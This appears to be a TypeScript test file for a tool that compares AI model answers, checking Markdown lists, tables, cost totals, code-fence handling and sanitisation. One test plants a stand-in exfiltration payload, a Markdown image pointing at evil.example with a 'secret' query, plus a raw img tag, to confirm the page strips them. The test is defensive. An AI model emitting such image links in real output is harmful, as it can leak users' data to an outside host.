import assert from 'node:assert/strict';
import type { Cost } from '../../src/core/cost.ts';
import type { Receipt } from '../../src/core/receipt.ts';
import type { Column } from '../../src/editor/compare.ts';
import {
  columnText,
  comparisonList,
  comparisonPage,
  comparisonTable,
  togetherText,
} from '../../src/editor/compare-text.ts';

const receipt = (facts: Partial<Receipt> = {}): Receipt => ({
  requestId: 'r',
  task: 'chat',
  answered: { provider: 'OpenAI', model: 'gpt-6-luna', key: 'work' },
  skipped: [],
  usage: { input: 12_345, output: 67 },
  cost: { usd: 0.0123, from: 'computed' },
  firstTokenMs: 240,
  totalMs: 1_850,
  ...facts,
});

const answered = (pick: string, text: string, facts: Partial<Receipt> = {}): Column => ({
  pick,
  state: 'answered',
  text,
  receipt: receipt(facts),
});

const titleOf = (pick: string): string => pick.replace('/', ' ');

const columns: readonly Column[] = [
  answered('openai/luna', 'A closure remembers.'),
  answered('ollama/llama', 'It closes.', { cost: { usd: 0, from: 'computed' } }),
  answered('acme/x', 'So.', { cost: { from: 'unknown' }, usage: undefined, firstTokenMs: undefined }),
  { pick: 'acme/slow', state: 'answering', text: 'I' },
  { pick: 'acme/bad', state: 'failed', text: '', why: 'ACME bad: no.' },
];

describe('a comparison', () => {
  it('says the same of each in a chat, which is too narrow for a table', () =>
    assert.equal(
      comparisonList(columns, titleOf),
      [
        '- **openai luna**  ',
        '  1.9 s · first word 0.2 s · 12,345 in, 67 out · \\$0.012',
        '- **ollama llama**  ',
        '  1.9 s · first word 0.2 s · 12,345 in, 67 out · free',
        '- **acme x**  ',
        '  1.9 s · cost unknown',
        '- **acme slow**  ',
        '  answering',
        '- **acme bad**  ',
        '  failed',
      ].join('\n'),
    ));

  it('shows time, first word, tokens and cost of each side by side', () => {
    assert.equal(
      comparisonTable(columns, titleOf),
      [
        '| Model | Time | First word | In | Out | Cost |',
        '| --- | --: | --: | --: | --: | --: |',
        '| openai luna | 1.9 s | 0.2 s | 12,345 | 67 | \\$0.012 |',
        '| ollama llama | 1.9 s | 0.2 s | 12,345 | 67 | free |',
        '| acme x | 1.9 s | – | – | – | unknown |',
        '| acme slow | answering | – | – | – | – |',
        '| acme bad | failed | – | – | – | – |',
      ].join('\n'),
    );
  });

  const sums: readonly (readonly [costs: readonly Cost[], text: string | undefined])[] = [
    [
      [
        { usd: 0.25, from: 'reported' },
        { usd: 0.5, from: 'estimated' },
      ],
      'Together: ~$0.75.',
    ],
    [[{ usd: 1, from: 'computed' }, { from: 'unknown' }], 'What all of them cost together is not known.'],
  ];
  for (const [costs, text] of sums) {
    it(`says of ${costs.map(({ from }) => from).join(' and ')}: ${text}`, () =>
      assert.equal(togetherText(costs.map((cost) => answered('a/b', 'x', { cost }))), text));
  }

  it('says no sum before each has ended', () =>
    assert.equal(togetherText([answered('a/b', 'x'), { pick: 'a/c', state: 'answering', text: '' }]), undefined));

  it('keeps an answer from taking in the one behind it', () => {
    const open = columnText(answered('a/b', 'Look:\n```ts\nconst a = 1;'), titleOf);
    assert.equal(open, '### a b\n\nLook:\n```ts\nconst a = 1;\n```');
    const nested = '````md\n```ts\n1\n```\n````';
    assert.equal(columnText(answered('a/b', nested), titleOf), `### a b\n\n${nested}`);
  });

  it('loads nothing that an answer names, and takes no name of a model for Markdown', () => {
    const page = comparisonPage([answered('a/b|*c*', 'See ![x](https://evil.example/?q=secret) <img src=x>')], {
      prompt: 'Which?',
      titleOf,
    });
    assert.ok(!page.includes('![x]('));
    assert.ok(!page.includes('<img'));
    assert.ok(page.includes(String.raw`| a b\|\*c\* |`));
  });

  it('says what was asked, in a fence that it cannot leave, and who answered', () => {
    const page = comparisonPage([answered('a/b', 'Yes.')], { prompt: 'Is\n```\nthis\n```\nit?', titleOf });
    assert.ok(page.includes('````\nIs\n```\nthis\n```\nit?\n````'));
    assert.match(page, /Answered by OpenAI gpt-6-luna with key work/);
  });

  it('says why a model gave no answer, below its name', () =>
    assert.equal(
      columnText({ pick: 'a/b', state: 'failed', text: 'I beg', why: 'A b [x]: it broke off.' }, titleOf),
      '### a b\n\nI beg\n\n*A b \\[x\\]: it broke off.*',
    ));
});
